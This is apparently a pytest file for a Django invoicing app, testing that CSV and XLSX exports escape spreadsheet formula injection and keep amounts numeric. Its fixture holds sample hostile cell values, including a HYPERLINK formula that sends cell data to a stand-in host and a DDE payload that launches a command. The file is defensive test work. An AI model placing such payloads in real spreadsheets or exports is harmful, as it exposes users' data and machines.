"""Exports: a cell a spreadsheet would run is written as text (OWASP's CSV
injection), numbers stay numbers, and a character an XLSX cannot hold that
is already in the database does not stop the export."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from openpyxl import load_workbook

from relance.core.models import Membership
from relance.dunning.exports import csv_lines, export_rows, xlsx_bytes
from relance.invoices.models import Invoice
from tests.factories import (
    make_company,
    make_customer,
    make_invoice,
    make_steps,
    make_user,
)

pytestmark = pytest.mark.django_db

NAMES = {
    "FC1": '=HYPERLINK("http://evil.example/?d="&A1;"Payer ici")',
    "FC2": "+33 1 23 45 67 89",
    "FC3": "-2+3+cmd|' /C calc'!A0",
    "FC4": "@SUM(1+1)",
    "FC5": "\t=1+1",
    "FC6": "\r=1+1",
    "FC7": "Menuiserie Riou",
}


@pytest.fixture
def company():
    company = make_company()
    make_steps(company)
    return company


@pytest.fixture
def signed_in(company):
    user = make_user(company)
    Membership.objects.filter(user=user).update(role="admin")
    client = Client()
    client.force_login(user)
    return client


def csv_read(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))


def xlsx_read(content: bytes) -> list[list]:
    """Each row's cells as (value, data type)."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.rows]


def hostile_invoices(company):
    for number, name in NAMES.items():
        make_invoice(
            make_customer(company, name=name), number=number, total=Decimal("1234.5")
        )


def test_a_csv_export_writes_what_looks_like_a_formula_as_quoted_text(
    signed_in, company
):
    hostile_invoices(company)
    response = signed_in.get("/factures/export.csv?filter=open")
    rows = csv_read(b"".join(response.streaming_content).decode("utf-8"))
    assert {row[0]: row[2] for row in rows[1:]} == {
        "FC1": "'" + NAMES["FC1"],
        "FC2": "'+33 1 23 45 67 89",
        "FC3": "'-2+3+cmd|' /C calc'!A0",
        "FC4": "'@SUM(1+1)",
        "FC5": "'\t=1+1",
        "FC6": "'\r=1+1",
        "FC7": "Menuiserie Riou",
    }
    assert {row[6] for row in rows[1:]} == {"1234,50"}


def test_an_xlsx_export_writes_what_looks_like_a_formula_as_text(signed_in, company):
    hostile_invoices(company)
    response = signed_in.get("/factures/export.csv?filter=open&format=xlsx")
    rows = xlsx_read(response.content)
    assert {row[0][0]: row[2] for row in rows[1:]} == {
        number: (name, "s") for number, name in NAMES.items()
    }
    assert {row[6] for row in rows[1:]} == {(1234.5, "n")}


def test_a_negative_amount_stays_a_number_in_both_exports(company):
    make_invoice(make_customer(company, name="-Client"), total=Decimal("100.00"))
    [row] = export_rows(
        company=company, invoices=Invoice.objects.all(), today=date(2026, 3, 1)
    )
    row[6] = Decimal("-12.50")  # as a credit would be
    [_header, line] = csv_read("".join(csv_lines([row])))
    assert (line[2], line[5], line[6]) == ("'-Client", "29", "-12,50")
    [_header, cells] = xlsx_read(xlsx_bytes([row]))
    assert (cells[2], cells[5], cells[6]) == (("-Client", "s"), (29, "n"), (-12.5, "n"))


def test_characters_an_xlsx_cannot_hold_do_not_stop_the_export(signed_in, company):
    make_invoice(make_customer(company, name="Client\x01\x1b A\ufffe"), number="FC1")
    response = signed_in.get("/factures/export.csv?filter=open&format=xlsx")
    assert response.status_code == 200
    [_header, cells] = xlsx_read(response.content)
    assert cells[:3] == [
        ("FC1", "s"),
        (Invoice.objects.get().customer.code, "s"),
        ("Client\ufffd\ufffd A\ufffd", "s"),
    ]
